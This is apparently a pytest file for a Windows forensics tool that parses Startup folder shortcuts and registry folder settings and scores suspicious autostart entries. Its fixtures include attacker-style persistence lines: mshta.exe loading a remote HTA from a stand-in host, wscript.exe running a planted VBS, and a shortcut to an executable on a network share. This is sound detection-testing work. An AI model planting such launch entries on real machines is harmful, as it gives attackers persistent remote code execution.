from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from forensics.artifacts.startup_folders import ARTIFACT, MOVED
from forensics.formats.hive import Hive
from forensics.model import Fact
from testdata.writers.shelllink import Content, Machine, Target, build
from tests.artifacts.autostarts import scores
from tests.artifacts.file_inputs import BORN, MODIFIED, run, survives_truncation
from tests.artifacts.registry_inputs import NTUSER, merged, nested
from tests.artifacts.registry_inputs import run as run_hive
from tests.formats.crafted_hives import utf16

MADE = datetime(2024, 12, 2, 3, 4, 5, tzinfo=UTC)
TIMES = {BORN: MADE, MODIFIED: MADE}
USER = "C:/Users/hanako/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
ALL = "C:/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
DESKTOP_INI = "\ufeff[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21787\r\n"


def link(path: str, arguments: str = "") -> bytes:
    return build(Target(path, MADE, MADE, MADE, 315), Machine(), Content(arguments=arguments))


def one(path: str, data: bytes) -> Fact:
    (fact,), problems = run(ARTIFACT, path, data, TIMES)
    assert problems == []
    return fact


def test_a_shortcut_is_told_with_what_it_starts() -> None:
    fact = one(f"{USER}/updater.lnk", link("C:\\Windows\\System32\\mshta.exe", "http://x.example/a.hta"))
    assert fact.fields["mechanism"] == "startup_folder"
    assert fact.fields["command_line"] == "C:\\Windows\\System32\\mshta.exe http://x.example/a.hta"
    assert fact.fields["location"] == USER.replace("/", "\\")
    assert fact.fields["profile_user"] == "hanako"
    assert fact.times == TIMES
    assert not fact.context


def test_planted_and_stock_side_by_side() -> None:
    facts = [
        one(f"{USER}/planted.lnk", link("C:\\Windows\\System32\\wscript.exe", "C:\\Users\\Public\\a.vbs")),
        one(f"{USER}/a.vbs", b"WScript.Echo 1"),
        one(f"{ALL}/photo.jpg", b"MZ" + bytes(400)),
        one(f"{ALL}/run.exe", b"MZ" + bytes(400)),
        one(f"{USER}/OneNote.lnk", link("C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTEM.EXE", "/tsr")),
        one(f"{USER}/desktop.ini", DESKTOP_INI.encode("utf-16-le")),
    ]
    found = scores(facts)
    assert {name for name, score in found.items() if score > 40} == {"planted.lnk", "a.vbs", "run.exe"}
    assert found["photo.jpg"] >= 30
    assert found["OneNote.lnk"] == found["desktop.ini"] == 0
    assert facts[-1].context


def test_an_internet_shortcut() -> None:
    fact = one(f"{USER}/x.url", b"[InternetShortcut]\r\nURL=file://10.0.0.1/share/a.exe\r\n")
    assert fact.fields["command_line"] == "file://10.0.0.1/share/a.exe"


def test_a_program_is_not_quiet_because_of_its_name() -> None:
    assert not one(f"{ALL}/desktop.ini", b"MZ" + bytes(40)).context


@pytest.mark.parametrize("data", [b"", b"L\x00\x00\x00", b"nonsense"])
def test_a_damaged_shortcut_is_still_an_entry(data: bytes) -> None:
    facts, problems = run(ARTIFACT, f"{USER}/x.lnk", data, TIMES)
    assert [fact.fields["reason"] for fact in facts] == ["a shortcut that cannot be read"]
    assert len(problems) == 1


def test_truncation() -> None:
    survives_truncation(ARTIFACT, f"{USER}/x.lnk", link("C:\\a\\b.exe", "-x"), step=7)


def test_a_folder_that_was_moved() -> None:
    place = "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders"
    usual = "%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
    for folder, told in ((usual, []), ("C:\\ProgramData\\start", ["C:\\ProgramData\\start"])):
        tree = merged({"Environment": {}}, nested(place, {"": [("Startup", 2, utf16(folder))]}))
        facts, problems = run_hive(MOVED, tree, NTUSER)
        assert problems == []
        assert [fact.fields["command_line"] for fact in facts] == told
    assert scores(facts)["Startup"] > 40


@pytest.mark.samples
@pytest.mark.parametrize("name", ["NTUSER_with_winscp.DAT", "NTUSER-WSL.DAT"])
def test_real_users_have_it_where_windows_does(samples: Path, name: str) -> None:
    opened = Hive.open((samples / "hives" / name).read_bytes())
    assert run_hive(MOVED, opened, "C:/Users/tony/NTUSER.DAT") == ([], [])
